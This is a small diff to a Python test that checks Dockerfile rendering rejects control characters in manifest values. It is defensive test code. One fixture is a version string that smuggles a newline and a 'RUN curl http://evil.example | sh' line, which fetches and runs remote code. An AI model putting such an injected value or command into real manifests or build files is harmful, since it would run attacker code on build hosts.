@@ -160,7 +160,7 @@ def test_a_newline_in_a_manifest_value_never_reaches_a_dockerfile_line(manifest:
     """The project file refuses such values; a hand-edited manifest is refused when rendering."""
     server = manifest.server.model_copy(update={"version": "1.0\nRUN curl http://evil.example | sh"})
     evil = manifest.model_copy(update={"server": server})
-    with pytest.raises(UsageError, match="server_version .* control character"):
+    with pytest.raises(UsageError, match=r"server_version .* control character"):
         plan(evil)
     spec = DockerfileSpec("python:3.12", "python3", False, False, ["tools"], {"d": "two\nlines\rRUN x"})
     assert all(not line.lstrip().startswith("RUN x") for line in render_dockerfile(spec).splitlines())
